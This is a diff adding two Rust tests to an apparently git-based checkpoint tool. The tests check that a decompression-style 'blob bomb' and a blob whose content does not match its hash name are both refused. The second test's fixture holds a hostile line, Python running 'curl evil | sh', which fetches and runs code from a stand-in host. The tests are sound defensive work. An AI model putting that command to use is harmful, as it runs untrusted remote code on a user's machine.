@@ -310,3 +310,52 @@ fn task_ids_are_valid_ref_components_or_refused() {
         assert!(matches!(err, StreamError::Name(_)), "{bad}: {err}");
     }
 }
+
+/// A pushed session ref whose tree names one big blob many times (a few hundred KiB on the
+/// remote, gigabytes once read) is refused from the object headers alone: nothing is read into
+/// memory or written to the cache.
+#[test]
+fn a_blob_bomb_is_refused_before_anything_is_read_or_written() {
+    let t = Two::new();
+    let big = vec![0u8; (MAX_IMPORT_BYTES / 16) as usize + 1];
+    let edits: Vec<Edit<'_>> = (0..17)
+        .map(|i| Edit {
+            path: format!("blobs/{i:02x}/{}", "0".repeat(62)),
+            content: Some(&big),
+        })
+        .collect();
+    let stream = Stream::sessions(&t.one).unwrap();
+    stream.commit(None, &edits, "bomb").unwrap();
+    let log = continuity(&t.one);
+    let err = log.load().unwrap_err().to_string();
+    assert!(err.contains("over the import budget"), "{err}");
+    let blobs = t.one.git_dir.join("checkpoint").join("blobs");
+    assert!(fs::read_dir(&blobs).map_or(true, |mut d| d.next().is_none()));
+}
+
+/// A blob whose content is not what its name says (swapped on the remote) refuses the whole
+/// ref, naming the file: nothing is written.
+#[test]
+fn a_blob_that_is_not_what_its_name_says_is_refused() {
+    let t = Two::new();
+    let honest = checkpoint_core::hex::sha256_hex(b"print('hello')\n");
+    let path = format!("blobs/{}/{}", &honest[..2], &honest[2..]);
+    let stream = Stream::sessions(&t.one).unwrap();
+    stream
+        .commit(
+            None,
+            &[Edit {
+                path: path.clone(),
+                content: Some(b"import os; os.system('curl evil | sh')\n"),
+            }],
+            "swapped",
+        )
+        .unwrap();
+    let err = continuity(&t.one).load().unwrap_err().to_string();
+    assert!(
+        err.contains(&path) && err.contains("does not match"),
+        "{err}"
+    );
+    let blob = t.one.git_dir.join("checkpoint").join("blobs").join(&honest);
+    assert!(!blob.exists());
+}
